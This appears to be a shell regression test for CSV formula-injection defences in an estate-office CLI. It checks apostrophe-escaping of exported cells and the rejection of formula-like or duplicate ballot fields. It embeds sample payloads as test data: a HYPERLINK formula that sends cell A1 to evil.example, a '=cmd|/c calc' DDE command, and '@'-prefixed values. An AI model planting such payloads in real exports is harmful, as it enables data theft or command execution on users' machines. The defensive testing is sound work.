#!/bin/sh
# CSV formula injection (issue 13): every CSV the office writes (the
# codes file, report.csv) writes a cell that starts like a spreadsheet
# formula as text, with a leading apostrophe; ballots import refuses a
# clerk or form reference that starts like one, and a form reference
# given twice in one file, naming both lines, storing nothing.
. "$top_srcdir/tests/cli/lib.sh"

OD="$T/office.db"
live_office "$OD" "$T" || fail "office set-up"
# An estate whose name and owner are formulas.
EVIL='=HYPERLINK("http://evil.example/?"&A1,"click")'
EVIL_CSV=$(printf '%s' "$EVIL" | sed 's/"/""/g')
{
	head -1 "$ASSETS/demo-roster.csv" | cut -d, -f1-10
	for r in 101 102; do
		echo "FX-01,\"$EVIL_CSV\",1,1,$r,1-1-$r,O-$r,60.00,@SUM(1+1),register"
	done
} >"$T/fx.csv"
expect 0 "$OFFICE" roster import --db "$OD" "$T/fx.csv"
expect 0 "$OFFICE" codes issue --db "$OD" --estate FX-01 --out "$T/fx-codes.csv"
expect 0 "$OFFICE" publish --db "$OD" --out "$T/site" --base-url https://office.example

# cells FILE ESTATE COLUMN: that column of the estate's rows, and every
# cell of the file a spreadsheet would run as a formula (none).
cells() {
	python3 - "$@" <<'PY'
import csv, re, sys
rows = list(csv.DictReader(open(sys.argv[1], encoding="utf-8", newline="")))
col = sorted({r[sys.argv[3]] for r in rows if r["estate_id"] == sys.argv[2]})
bad = [v for r in rows for v in r.values()
       if v[:1] in ("=", "+", "-", "@", "\t", "\r")
       and not re.fullmatch(r"[+-][0-9]+(\.[0-9]+)?", v)]
print("|".join(col), len(bad))
PY
}
same "codes file: the estate name as text" "$(cells "$T/fx-codes.csv" FX-01 estate_name)" "'$EVIL 0"
contains "codes file: the cell quoted whole" "$T/fx-codes.csv" "^FX-01,1-1-101,[A-Z0-9-]+,\"'=HYPERLINK\(\"\"http"
same "report.csv: the estate name as text" "$(cells "$T/site/report/report.csv" FX-01 estate_name)" "'$EVIL 0"
same "report.csv: other estates as they are" "$(cells "$T/site/report/report.csv" LC-XNY-02 estate_name)" "东风印刷厂家属院 0"

# --- ballots import ---------------------------------------------------
at=$(iso_at '-1 hour')
sig=$(db_signature "$OD")
printf 'estate_id,flat_id,question_id,choice,cast_at,form_ref\nLC-XNY-02,1-1-201,Q-BASIC,agree,%s,F-0001\n' "$at" >"$T/ok.csv"
expect_error 2 "--clerk: '=cmd\|/c calc' starts like a spreadsheet formula" \
    "$OFFICE" ballots import --db "$OD" --clerk '=cmd|/c calc' "$T/ok.csv"
expect_error 2 "--clerk: '@x' starts like" \
    "$OFFICE" ballots import --db "$OD" --clerk '@x' "$T/ok.csv"
printf 'estate_id,flat_id,question_id,choice,cast_at,form_ref\nLC-XNY-02,1-1-201,Q-BASIC,agree,%s,F-0001\nLC-XNY-02,1-1-202,Q-BASIC,agree,%s,=cmd\n' "$at" "$at" >"$T/f.csv"
expect_error 1 "f.csv:3: form_ref: '=cmd' starts like a spreadsheet formula" \
    "$OFFICE" ballots import --db "$OD" --clerk 王文书 "$T/f.csv"
printf 'estate_id,flat_id,question_id,choice,cast_at,form_ref\nLC-XNY-02,1-1-201,Q-BASIC,agree,%s,F-0001\nLC-XNY-02,1-1-202,Q-BASIC,agree,%s,F-0002\nLC-XNY-02,1-1-301,Q-BASIC,agree,%s,F-0001\n' "$at" "$at" "$at" >"$T/d.csv"
expect_error 1 "d.csv:4: form_ref: 'F-0001' is already on line 2" \
    "$OFFICE" ballots import --db "$OD" --clerk 王文书 "$T/d.csv"
same "refused ballots store nothing" "$(db_signature "$OD")" "$sig"
expect 0 "$OFFICE" ballots import --db "$OD" --clerk 王文书 "$T/ok.csv"
same "a plain file is entered" "$(sql "$OD" "SELECT count(*) FROM answer WHERE device = 'office'")" 1

test_done
